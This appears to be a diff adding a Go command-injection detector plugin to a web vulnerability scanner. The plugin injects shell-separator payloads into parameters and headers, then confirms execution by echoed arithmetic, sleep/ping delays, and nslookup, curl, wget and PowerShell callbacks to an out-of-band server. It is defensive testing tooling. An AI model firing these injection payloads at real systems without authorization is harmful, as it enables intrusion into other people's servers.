@@ -0,0 +1,468 @@
+package injection
+
+import (
+	"context"
+	"fmt"
+	"math"
+	"math/rand"
+	"net/http"
+	"strings"
+	"time"
+
+	"github.com/dronesec/droneriskscan/internal/detector"
+	"github.com/dronesec/droneriskscan/internal/transport"
+	"github.com/dronesec/droneriskscan/pkg/models"
+)
+
+// CommandInjectionDetector OS命令注入检测器 - 回显、时间延迟与带外回连三种确认方式
+type CommandInjectionDetector struct {
+	*detector.BasePlugin
+	requestModifier *detector.RequestModifier
+	paramExtractor  *detector.ParameterExtractor
+	oobProvider     detector.OOBProvider
+}
+
+// NewCommandInjectionDetector 创建命令注入检测器
+func NewCommandInjectionDetector(httpClient transport.HTTPClient) *CommandInjectionDetector {
+	base := detector.NewBasePlugin(
+		"command-injection",
+		detector.PluginTypeActive,
+		models.CategoryInjection,
+		models.SeverityCritical,
+	)
+
+	base.SetDescription("检测OS命令注入漏洞，支持Unix/Windows分隔符、算术回显、时间延迟和带外回连")
+	base.SetAuthor("DroneRiskScan Team")
+	base.SetVersion("1.0.0")
+	base.SetHTTPClient(httpClient)
+
+	return &CommandInjectionDetector{
+		BasePlugin:      base,
+		requestModifier: detector.NewRequestModifier(httpClient),
+		paramExtractor:  detector.NewParameterExtractor(),
+	}
+}
+
+// SetSessionCookies 设置会话Cookie
+func (c *CommandInjectionDetector) SetSessionCookies(cookies []*http.Cookie) {
+	c.requestModifier.SetSessionCookies(cookies)
+}
+
+// SetOOBProvider 设置带外交互提供者，未设置时跳过带外检测
+func (c *CommandInjectionDetector) SetOOBProvider(provider detector.OOBProvider) {
+	c.oobProvider = provider
+}
+
+// ShellType 目标shell类型
+type ShellType string
+
+const (
+	ShellUnix    ShellType = "unix"
+	ShellWindows ShellType = "windows"
+)
+
+// CommandSeparator 命令分隔方式，Template中的%s为注入的命令
+type CommandSeparator struct {
+	Shell    ShellType
+	Template string
+	Desc     string
+}
+
+// getCommandSeparators 获取Unix与Windows分隔方式
+func (c *CommandInjectionDetector) getCommandSeparators() []CommandSeparator {
+	return []CommandSeparator{
+		// Unix
+		{Shell: ShellUnix, Template: ";%s", Desc: "分号"},
+		{Shell: ShellUnix, Template: "|%s", Desc: "管道"},
+		{Shell: ShellUnix, Template: "||%s", Desc: "逻辑或"},
+		{Shell: ShellUnix, Template: "&&%s", Desc: "逻辑与"},
+		{Shell: ShellUnix, Template: "\n%s", Desc: "换行"},
+		{Shell: ShellUnix, Template: "$(%s)", Desc: "命令替换$()"},
+		{Shell: ShellUnix, Template: "`%s`", Desc: "反引号命令替换"},
+		{Shell: ShellUnix, Template: "';%s;'", Desc: "单引号闭合"},
+		{Shell: ShellUnix, Template: "\";%s;\"", Desc: "双引号闭合"},
+
+		// Windows cmd.exe
+		{Shell: ShellWindows, Template: "&%s", Desc: "&"},
+		{Shell: ShellWindows, Template: "|%s", Desc: "管道"},
+		{Shell: ShellWindows, Template: "&&%s", Desc: "&&"},
+		{Shell: ShellWindows, Template: "||%s", Desc: "||"},
+		{Shell: ShellWindows, Template: "\r\n%s", Desc: "CRLF"},
+		{Shell: ShellWindows, Template: "\"&%s&\"", Desc: "双引号闭合"},
+	}
+}
+
+// Execute 执行命令注入检测
+func (c *CommandInjectionDetector) Execute(ctx context.Context, target *detector.ScanTarget) (*detector.DetectionResult, error) {
+	result := &detector.DetectionResult{
+		IsVulnerable:    false,
+		Vulnerabilities: []*models.Vulnerability{},
+		Evidence:        []detector.Evidence{},
+		Metadata:        make(map[string]interface{}),
+	}
+
+	injectPoints := withDefaultHeaderPoints(c.paramExtractor.ExtractParameters(target))
+	fmt.Printf("[INFO] 命令注入检测器找到 %d 个注入点\n", len(injectPoints))
+
+	for _, point := range injectPoints {
+		select {
+		case <-ctx.Done():
+			return result, ctx.Err()
+		default:
+		}
+
+		fmt.Printf("[INFO] 正在测试参数: %s (位置: %s)\n", point.Name, point.Position)
+
+		baselineBody, err := c.fetchBody(ctx, target, point, point.Value)
+		if err != nil {
+			continue
+		}
+
+		// 1. 算术回显检测
+		vuln := c.testOutputBased(ctx, target, point, baselineBody)
+
+		// 2. 时间延迟检测
+		if vuln == nil {
+			vuln = c.testTimeBased(ctx, target, point)
+		}
+
+		// 3. 带外回连检测
+		if vuln == nil && c.oobProvider != nil {
+			vuln = c.testOOBBased(ctx, target, point)
+		}
+
+		if vuln != nil {
+			result.IsVulnerable = true
+			result.Vulnerabilities = append(result.Vulnerabilities, vuln)
+			fmt.Printf("[SUCCESS] 发现命令注入漏洞: %s\n", point.Name)
+		}
+	}
+
+	result.Metadata["tested_parameters"] = len(injectPoints)
+	result.Metadata["detection_time"] = time.Now().Format(time.RFC3339)
+	result.Metadata["vulnerabilities_found"] = len(result.Vulnerabilities)
+
+	return result, nil
+}
+
+// testOutputBased 算术回显检测：注入乘法运算，响应中出现乘积即确认命令被执行
+func (c *CommandInjectionDetector) testOutputBased(ctx context.Context, target *detector.ScanTarget, point detector.InjectPoint, baselineBody []byte) *models.Vulnerability {
+	for _, sep := range c.getCommandSeparators() {
+		a := 10000 + rand.Intn(89999)
+		b := 10000 + rand.Intn(89999)
+		product := fmt.Sprintf("%d", a*b)
+
+		if strings.Contains(string(baselineBody), product) {
+			continue
+		}
+
+		var command string
+		if sep.Shell == ShellWindows {
+			command = fmt.Sprintf("set /a %d*%d", a, b)
+		} else {
+			command = fmt.Sprintf("expr %d \\* %d", a, b)
+		}
+		payload := point.Value + fmt.Sprintf(sep.Template, command)
+
+		fmt.Printf("[DEBUG] 测试命令注入payload: %q\n", payload)
+
+		body, err := c.fetchBody(ctx, target, point, payload)
+		if err != nil {
+			continue
+		}
+
+		if strings.Contains(string(body), product) {
+			return c.buildVulnerability(
+				"OS Command Injection (Output-based)",
+				fmt.Sprintf("参数 %s 存在OS命令注入漏洞，注入的算术运算结果被回显", point.Name),
+				target, point, payload,
+				fmt.Sprintf("%s shell (%s分隔): %d*%d=%s 出现在响应中", sep.Shell, sep.Desc, a, b, product),
+				0.95, sep.Shell,
+			)
+		}
+	}
+
+	return nil
+}
+
+// testTimeBased 时间延迟检测：多次采样基准，并用两个不同的延迟值验证响应时间线性增长
+func (c *CommandInjectionDetector) testTimeBased(ctx context.Context, target *detector.ScanTarget, point detector.InjectPoint) *models.Vulnerability {
+	baseline := measureTimingSamples(3, func() time.Duration {
+		return c.measureResponseTime(ctx, target, point, point.Value)
+	})
+	if baseline == nil {
+		return nil
+	}
+
+	fmt.Printf("[DEBUG] 基准响应时间: 均值 %v, 标准差 %v\n", baseline.Mean, baseline.StdDev)
+
+	const longDelay, shortDelay = 5, 2
+
+	for _, sep := range c.getCommandSeparators() {
+		longPayload := point.Value + fmt.Sprintf(sep.Template, sleepCommand(sep.Shell, longDelay))
+		longTime := c.measureResponseTime(ctx, target, point, longPayload)
+		if longTime < 0 || !baseline.IsDelayed(longTime, longDelay) {
+			continue
+		}
+
+		// 二次确认：短延迟应产生相应较短的延迟，排除偶发网络抖动
+		shortPayload := point.Value + fmt.Sprintf(sep.Template, sleepCommand(sep.Shell, shortDelay))
+		shortTime := c.measureResponseTime(ctx, target, point, shortPayload)
+		if shortTime < 0 || !baseline.IsDelayed(shortTime, shortDelay) || shortTime >= longTime {
+			continue
+		}
+
+		// 三次确认：重放长延迟
+		repeatTime := c.measureResponseTime(ctx, target, point, longPayload)
+		if repeatTime < 0 || !baseline.IsDelayed(repeatTime, longDelay) {
+			continue
+		}
+
+		return c.buildVulnerability(
+			"OS Command Injection (Time-based Blind)",
+			fmt.Sprintf("参数 %s 存在OS命令盲注漏洞，响应时间随注入的延迟命令线性变化", point.Name),
+			target, point, longPayload,
+			fmt.Sprintf("基准: %v±%v, %ds延迟: %v/%v, %ds延迟: %v",
+				baseline.Mean, baseline.StdDev, longDelay, longTime, repeatTime, shortDelay, shortTime),
+			0.85, sep.Shell,
+		)
+	}
+
+	return nil
+}
+
+// oobProbe 一组分隔符的带外回连探测
+type oobProbe struct {
+	interaction *detector.OOBInteraction
+	sep         CommandSeparator
+	sent        []string
+}
+
+// testOOBBased 带外检测：每种分隔符使用独立的关联ID注入DNS/HTTP回连命令，全部发送后统一等待一次
+func (c *CommandInjectionDetector) testOOBBased(ctx context.Context, target *detector.ScanTarget, point detector.InjectPoint) *models.Vulnerability {
+	var probes []oobProbe
+	for _, sep := range c.getCommandSeparators() {
+		interaction := c.oobProvider.NewInteraction()
+
+		var commands []string
+		if interaction.Domain != "" {
+			commands = append(commands, "nslookup "+interaction.Domain)
+		}
+		if sep.Shell == ShellUnix {
+			commands = append(commands, "curl -s "+interaction.URL, "wget -q -O- "+interaction.URL)
+		} else {
+			commands = append(commands, "powershell -c iwr "+interaction.URL)
+		}
+
+		var sent []string
+		for _, command := range commands {
+			payload := point.Value + fmt.Sprintf(sep.Template, command)
+			resp, err := c.requestModifier.ModifyParameter(ctx, target, point, payload)
+			if err != nil {
+				continue
+			}
+			resp.Body.Close()
+			sent = append(sent, payload)
+		}
+		if len(sent) > 0 {
+			probes = append(probes, oobProbe{interaction: interaction, sep: sep, sent: sent})
+		}
+	}
+
+	// 所有探测共用一个等待期限，先发送的探测已经有更多时间回连
+	deadline := time.Now().Add(5 * time.Second)
+	for _, probe := range probes {
+		if c.oobProvider.WaitForInteraction(ctx, probe.interaction.ID, time.Until(deadline)) {
+			return c.buildVulnerability(
+				"OS Command Injection (Out-of-band)",
+				fmt.Sprintf("参数 %s 存在OS命令盲注漏洞，目标服务器执行了注入的回连命令", point.Name),
+				target, point, strings.Join(probe.sent, " | "),
+				fmt.Sprintf("收到关联ID %s 的带外回连", probe.interaction.ID),
+				0.98, probe.sep.Shell,
+			)
+		}
+	}
+
+	// 均未在期限内回连：后台执行的命令可能稍后回连，登记后由扫描器上报
+	c.expectDelayed(target, point, probes)
+	return nil
+}
+
+// expectDelayed 为全部探测登记同一个预期漏洞，第一个到达的回连认领后其余分隔符的回连不再重复上报
+func (c *CommandInjectionDetector) expectDelayed(target *detector.ScanTarget, point detector.InjectPoint, probes []oobProbe) {
+	if len(probes) == 0 {
+		return
+	}
+
+	var payloads []string
+	for _, probe := range probes {
+		payloads = append(payloads, probe.sent...)
+	}
+
+	vuln := c.buildVulnerability(
+		"OS Command Injection (Out-of-band, delayed)",
+		fmt.Sprintf("参数 %s 存在OS命令盲注漏洞，目标服务器异步执行了注入的回连命令", point.Name),
+		target, point, strings.Join(payloads, " | "),
+		"",
+		0.95, "",
+	)
+	// 生效的分隔符由回连的关联ID（oob_id）确定
+	delete(vuln.Metadata, "shell")
+	for _, probe := range probes {
+		vuln.Metadata["shell_"+probe.interaction.ID] = string(probe.sep.Shell)
+	}
+
+	for _, probe := range probes {
+		c.oobProvider.ExpectInteraction(probe.interaction.ID, vuln)
+	}
+}
+
+// fetchBody 修改注入点并读取响应体
+func (c *CommandInjectionDetector) fetchBody(ctx context.Context, target *detector.ScanTarget, point detector.InjectPoint, value string) ([]byte, error) {
+	resp, err := c.requestModifier.ModifyParameter(ctx, target, point, value)
+	if err != nil {
+		return nil, err
+	}
+	defer resp.Body.Close()
+
+	helper := transport.NewResponseHelper()
+	return helper.ReadBody(resp)
+}
+
+// measureResponseTime 测量完整响应时间，失败返回-1
+func (c *CommandInjectionDetector) measureResponseTime(ctx context.Context, target *detector.ScanTarget, point detector.InjectPoint, payload string) time.Duration {
+	start := time.Now()
+	resp, err := c.requestModifier.ModifyParameter(ctx, target, point, payload)
+	if err != nil {
+		return -1
+	}
+	defer resp.Body.Close()
+
+	helper := transport.NewResponseHelper()
+	if _, err := helper.ReadBody(resp); err != nil {
+		return -1
+	}
+	return time.Since(start)
+}
+
+// sleepCommand 生成指定秒数的延迟命令
+func sleepCommand(shell ShellType, seconds int) string {
+	if shell == ShellWindows {
+		// ping -n N 约耗时 N-1 秒
+		return fmt.Sprintf("ping -n %d 127.0.0.1", seconds+1)
+	}
+	return fmt.Sprintf("sleep %d", seconds)
+}
+
+// buildVulnerability 构建命令注入漏洞对象
+func (c *CommandInjectionDetector) buildVulnerability(
+	title, description string,
+	target *detector.ScanTarget,
+	point detector.InjectPoint,
+	payload, evidence string,
+	confidence float64,
+	shell ShellType,
+) *models.Vulnerability {
+	return models.NewVulnerabilityBuilder().
+		WithType(models.VulnCommandInjection).
+		WithCategory(models.CategoryInjection).
+		WithSeverity(models.SeverityCritical).
+		WithTitle(title).
+		WithDescription(description).
+		WithURL(target.URL.String()).
+		WithMethod(target.Method).
+		WithParameter(point.Name, point.Position).
+		WithPayload(payload).
+		WithEvidence(evidence).
+		WithConfidence(confidence).
+		WithPlugin(c.Name()).
+		WithCWE("CWE-78").
+		WithCVSS(9.8).
+		WithSolution("避免将用户输入拼接进系统命令，使用参数化的进程调用API并对输入进行白名单校验").
+		WithReferences([]string{
+			"https://owasp.org/www-community/attacks/Command_Injection",
+			"https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html",
+		}).
+		WithMetadata("shell", string(shell)).
+		Build()
+}
+
+// TimingBaseline 响应时间基准统计
+type TimingBaseline struct {
+	Mean    time.Duration
+	StdDev  time.Duration
+	Samples []time.Duration
+}
+
+// measureTimingSamples 采集多次响应时间并计算均值和标准差，全部失败时返回nil
+func measureTimingSamples(count int, measure func() time.Duration) *TimingBaseline {
+	var samples []time.Duration
+	for i := 0; i < count; i++ {
+		if d := measure(); d >= 0 {
+			samples = append(samples, d)
+		}
+	}
+	if len(samples) == 0 {
+		return nil
+	}
+
+	var sum float64
+	for _, d := range samples {
+		sum += float64(d)
+	}
+	mean := sum / float64(len(samples))
+
+	var variance float64
+	for _, d := range samples {
+		variance += (float64(d) - mean) * (float64(d) - mean)
+	}
+	variance /= float64(len(samples))
+
+	return &TimingBaseline{
+		Mean:    time.Duration(mean),
+		StdDev:  time.Duration(math.Sqrt(variance)),
+		Samples: samples,
+	}
+}
+
+// IsDelayed 判断观测时间是否体现了预期延迟：
+// 差值需达到预期的80%，且超出基准均值三倍标准差（至少500ms容差）
+func (tb *TimingBaseline) IsDelayed(observed time.Duration, expectedSeconds int) bool {
+	expected := time.Duration(expectedSeconds) * time.Second
+	delta := observed - tb.Mean
+
+	tolerance := 3 * tb.StdDev
+	if tolerance < 500*time.Millisecond {
+		tolerance = 500 * time.Millisecond
+	}
+
+	return delta >= expected*8/10 && delta > tolerance
+}
+
+// withDefaultHeaderPoints 补充常见可注入头部，使头部位置也被覆盖
+func withDefaultHeaderPoints(points []detector.InjectPoint) []detector.InjectPoint {
+	defaults := map[string]string{
+		"User-Agent":      "Mozilla/5.0",
+		"Referer":         "http://localhost/",
+		"X-Forwarded-For": "127.0.0.1",
+	}
+
+	for _, point := range points {
+		if point.Position == models.PositionHEADER {
+			delete(defaults, point.Name)
+		}
+	}
+
+	for _, name := range []string{"User-Agent", "Referer", "X-Forwarded-For"} {
+		if value, ok := defaults[name]; ok {
+			points = append(points, detector.InjectPoint{
+				Name:     name,
+				Value:    value,
+				Position: models.PositionHEADER,
+				Type:     detector.ParamTypeString,
+			})
+		}
+	}
+
+	return points
+}